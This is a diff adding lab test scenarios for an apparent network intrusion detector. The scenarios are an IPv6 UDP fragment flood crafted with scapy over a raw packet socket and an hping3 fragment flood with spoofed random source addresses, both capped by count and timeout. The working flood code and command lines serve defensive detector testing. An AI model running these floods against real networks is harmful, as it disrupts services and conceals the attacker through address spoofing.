@@ -1,0 +1,104 @@
+"""Lab scenarios of fragment floods beside hping3 -f: over IPv6, and from random sources.
+
+hping3 fragments IPv4 only, so the IPv6 flood is crafted with scapy (UDP datagrams in
+Fragment headers, as thc-ipv6's tools build them); the random-source one is hping3's own
+``--rand-source``. Both are bounded by a count and a timeout and send only inside the lab.
+``tests/lab/scenarios.py`` registers them into its ``SCENARIOS`` at its end.
+"""
+
+from __future__ import annotations
+
+import sys
+from typing import TYPE_CHECKING
+
+from tests.lab.lan import IF
+from tests.lab.scenarios import ATTACKER6, SERVER6, Outcome, Scenario, _bounded
+from tests.lab.scenarios import _server_and_attacker_ipv6 as _ipv6
+
+if TYPE_CHECKING:
+    from tests.lab.lan import SchoolLan
+
+_KIND = {"expected_kind": {"flood": "fragments"}}  # detector -> kind of its findings
+
+# UDP datagrams of 48 bytes (40 of data, to port 80) in 16-byte fragments, as hping3 -f
+# cuts them over IPv4: three fragments each, a new identification per datagram. The
+# frames are built once and sent from a packet socket, paced to `rate` datagrams a second.
+_V6_FRAGMENTS = """
+import socket, sys, time
+from scapy.all import UDP, Ether, IPv6, IPv6ExtHdrFragment, raw
+iface, src, dst, src_mac, dst_mac = sys.argv[1:6]
+count, rate = int(sys.argv[6]), float(sys.argv[7])
+udp = raw(IPv6(src=src, dst=dst) / UDP(sport=40000, dport=80) / (b"X" * 40))[40:]
+cuts = range(0, len(udp), 16)
+frames = [
+    bytearray(raw(
+        Ether(src=src_mac, dst=dst_mac) / IPv6(src=src, dst=dst)
+        / IPv6ExtHdrFragment(nh=17, offset=off // 8, m=int(off + 16 < len(udp)))
+        / udp[off : off + 16]
+    ))
+    for off in cuts
+]
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind((iface, 0))
+start = time.monotonic()
+deadline = start + 20
+for i in range(count):
+    if time.monotonic() > deadline:
+        break
+    for f in frames:
+        f[58:62] = (i + 1).to_bytes(4, "big")  # the Fragment header's identification
+        s.send(f)
+    late = start + (i + 1) / rate - time.monotonic()
+    if late > 0:
+        time.sleep(late)
+s.close()
+print("sent", i + 1, "datagrams")
+"""
+
+
+def ipv6_fragment_flood(lan: SchoolLan, small: bool = False) -> Outcome:
+    """UDP over IPv6 to the server in 16-byte fragments: 3,000 datagrams at about 2,000
+    a second, about 6,000 fragments a second for 1.5 s."""
+    atk, srv = lan.attacker, lan.srv
+    args = [IF, ATTACKER6, SERVER6, atk.mac, srv.mac, "3000", "2000"]
+    with _ipv6(lan):
+        out = _bounded(lan, atk.ns, 30, sys.executable, "-c", _V6_FRAGMENTS, *args)
+    return Outcome(
+        "ipv6_fragment_flood",
+        ("flood",),  # kind fragments
+        "python -c <scapy: UDP datagrams of 48 bytes to port 80 in 16-byte IPv6 fragments> "
+        + " ".join(args),
+        f"UDP datagrams of 48 bytes over IPv6 to the server ({SERVER6}) port 80, each split "
+        "into three 16-byte fragments behind a Fragment header (scapy: hping3 fragments IPv4 "
+        "only), 3,000 at about 2,000 a second",
+        atk,
+        "scapy",
+        notes={"output_tail": out[-300:], "attacker_ip6": ATTACKER6, **_KIND},
+    )
+
+
+def udp_fragment_flood_random_sources(lan: SchoolLan, small: bool = False) -> Outcome:
+    """hping3 -f --rand-source: each datagram's three fragments from a new random
+    address (of all IPv4), all from the attacker's one MAC."""
+    args = ["--udp", "-f", "--rand-source", "-d", "40", "-p", "80", "-c", "3000", "-i", "u500"]
+    args.append(lan.srv.ip)
+    out = _bounded(lan, lan.attacker.ns, 30, "hping3", *args)
+    return Outcome(
+        "udp_fragment_flood_random_sources",
+        ("flood",),  # kind fragments
+        "hping3 " + " ".join(args),
+        "hping3 UDP datagrams of 48 bytes split into 16-byte IPv4 fragments (-f), each "
+        "datagram from a random source address (--rand-source; one MAC: the attacker's), "
+        "3,000 at about 2,000 a second",
+        lan.attacker,
+        "hping3",
+        notes={"output_tail": out[-300:], "no_single_source": True, **_KIND},
+    )
+
+
+SCENARIOS = {
+    "ipv6_fragment_flood": Scenario("ipv6_fragment_flood", (), ipv6_fragment_flood),
+    "udp_fragment_flood_random_sources": Scenario(
+        "udp_fragment_flood_random_sources", ("hping3",), udp_fragment_flood_random_sources
+    ),
+}
